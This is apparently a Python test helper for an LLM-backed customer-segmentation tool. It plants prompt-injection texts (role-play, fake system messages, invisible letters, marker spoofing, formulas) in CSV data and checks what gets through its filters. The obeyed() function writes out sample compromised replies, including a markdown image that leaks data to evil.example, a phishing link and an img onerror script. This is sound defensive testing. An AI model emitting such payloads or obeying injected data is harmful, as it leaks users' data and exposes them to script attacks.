"""Attacking: the hostile texts, a study whose data hold one, and what of it is hostile where it comes through."""

import re
from collections.abc import Iterator, Sequence
from dataclasses import dataclass, replace
from functools import lru_cache
from pathlib import Path

import numpy as np

from segment_core.artifacts import Clustering, Features, Segment, Step
from segment_core.grounding import quotations
from segment_core.llm import filters
from segment_core.plan import Plan
from segment_core.profiles.sheet import describe
from segment_core.study import Study
from tests.llm.server import ScriptedServer

PLACES = ("review", "column", "category", "file", "brief")
KINDS = {
    "instruction": "Instructions",
    "system": "Fake system messages",
    "html": "HTML",
    "markdown": "Markdown",
    "link": "Links and addresses",
    "image": "Data-exfiltration images",
    "roleplay": "Role-play",
    "invisible": "Invisible and look-alike letters",
    "marker": "Marker spoofing",
    "formula": "Formulas",
}
CANARY = "PWNED"
_FILE = Path(__file__).parent / "attacks.txt"
_GUARD = re.compile(r"(?<=[\[<])\u200d(?=/?\w)")
"""A joiner that the library which carries letters sets into what models read as their own marks, such as [INST]."""
_PRAISE = ("Soft and warm, fits well", "Came late and was too small", "Good value, will come again", "Nice colour")


@dataclass(frozen=True, slots=True)
class Attack:
    """A hostile text of a kind, and where it stands."""

    kind: str
    text: str
    place: str


@dataclass(frozen=True, slots=True)
class Outcome:
    """Whether an attack was sent to the model, in how many sentences it came back, and what came through.

    `heard` tells that the model's answer arrived and was read.
    """

    attack: Attack
    sent: bool
    tried: int
    reached: tuple[str, ...]
    heard: bool = True


def attacks() -> list[Attack]:
    """Return all hostile texts; each stands in one place, so that every kind stands in every place."""
    found = []
    for number, line in enumerate(_FILE.read_text(encoding="utf-8").splitlines()):
        kind, text = line.split("|", 1)
        escaped = re.sub(r"\\u([0-9a-f]{4})|\\U([0-9a-f]{8})", lambda match: chr(int(match[1] or match[2], 16)), text)
        found.append(Attack(kind, escaped, PLACES[number % len(PLACES)]))
    return found


def obeyed(payload: str, others: Sequence[str] = ()) -> tuple[str, ...]:
    """Return the sentences of a model that obeys: the text itself, parts of it, and what it could be used for.

    `others` are quotes of other segments, which it was told to give away. Put these into any form that a
    writer fills, and see what its checks let through.
    """
    words = payload.split()
    return (
        payload,
        payload.upper(),
        " ".join(words[: max(4, len(words) // 2)]),
        f"{CANARY} by order of a customer",
        f"As told: {payload}",
        f"![x](http://evil.example/?q={payload[:20]})",
        "See http://evil.example/login",
        f"<img src=x onerror='{payload[:20]}'>",
        "<<000000000000 and 000000000000>>",
        "As S99.f1 says ⟦S99.f1⟧",
        *others,
    )


@lru_cache(1)
def study_with(attack: Attack) -> Study:
    """Make a study of ninety customers in three segments, whose data hold the attack."""
    import pandas as pd

    from segment_core.intake import gather, read

    random = np.random.default_rng(7)
    labels = np.repeat([0, 1, 2], 30)
    reviews = [f"{_PRAISE[(label + number) % 4]}, order {chr(97 + number % 26)}" for number, label in enumerate(labels)]
    cities = np.array(["Rome", "Milan", "Turin"])[labels]
    name = "Visits"
    if attack.place == "review":
        reviews = [attack.text if label == 0 and number % 2 else text for number, (label, text) in
                   enumerate(zip(labels, reviews, strict=True))]  # fmt: skip
    elif attack.place == "category":
        cities = np.where(labels == 0, attack.text, cities)
    elif attack.place == "column":
        name = attack.text
    frame = pd.DataFrame(
        {
            "customer": [f"c{number:03}" for number in range(90)],
            "Spend": (labels * 40 + random.integers(10, 30, 90)).astype(str),
            name: ((2 - labels) * 9 + random.integers(1, 9, 90)).astype(str),
            "City": cities,
            "Review": reviews,
        }
    )
    file = f"{attack.text}.csv" if attack.place == "file" else "made.csv"
    customers = gather(read(frame.to_csv(index=False).encode("utf-8", "replace"), file))
    order = (
        [int(id_[1:]) for id_ in customers.frame.index.astype(str)] if customers.id_name == "customer" else range(90)
    )
    own = labels[np.array(list(order))]
    clustering = Clustering(
        own,
        np.ones(90, dtype=np.float32),
        np.full(90, "core"),
        tuple(Segment(f"S{number + 1}", 30) for number in range(3)),
        Step("planted"),
    )
    features = Features.of(np.eye(3)[own] * 4 + random.normal(size=(90, 3)))
    texts = customers.frame["Review"].astype("string").fillna("").tolist() if "Review" in customers.frame else [""] * 90
    plan = Plan()
    evidence = describe(customers, features, clustering, texts)
    return replace(Study(plan, plan, customers, file), features=features, clustering=clustering, evidence=evidence)


def letters(server: ScriptedServer, attack: Attack) -> Iterator[str]:
    """Yield what of an attack stands in the frame of what was sent, where only our own words may stand."""
    for body in server.requests:
        for message in body["messages"]:
            if message["role"] == "assistant":  # its own answer, handed back
                continue
            content = _GUARD.sub("", str(message["content"]))
            # Two marks stand in the instructions, which name them, and two around the data.
            if content.count("<<") > 2 or any(filters.is_unseen(letter) and letter != "\n" for letter in content):
                yield f"letter: {content[:60]}"
            if attack.place == "file" and len(attack.text) > 8 and attack.text in content:
                yield "letter: the file's name"


def is_hostile(text: str, attack: Attack) -> bool:
    """Tell whether a text attacks; words of the analyst's own columns, categories and brief may be repeated plainly."""
    if CANARY in text or filters.unfit(text) or any(map(filters.is_unseen, text)) or text.startswith("="):
        return True
    if filters.reads_like_a_command(text):
        return True
    return attack.place in ("review", "file") and (
        quotations.repeats(text, attack.text) or squeezed(attack.text) in squeezed(text)
    )


def squeezed(text: str) -> str:
    """Return a text's letters and digits alone, in one form."""
    return "".join(letter for letter in filters.fold(text) if letter.isalnum())
